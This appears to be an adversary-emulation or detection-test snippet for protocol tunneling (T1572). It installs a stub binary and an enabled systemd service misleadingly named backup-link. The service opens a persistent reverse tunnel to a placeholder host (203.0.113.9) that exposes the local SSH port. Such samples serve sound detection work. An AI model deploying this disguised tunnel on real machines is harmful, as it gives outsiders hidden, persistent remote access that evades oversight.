# technique: T1572
# location: linux.systemd.service
# source: /etc/systemd/system/backup-link.service
install -m 755 /bin/true /usr/local/bin/ch
printf '[Service]\nExecStart=/usr/local/bin/ch client https://203.0.113.9 R:2222:127.0.0.1:22\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/backup-link.service
systemctl enable backup-link
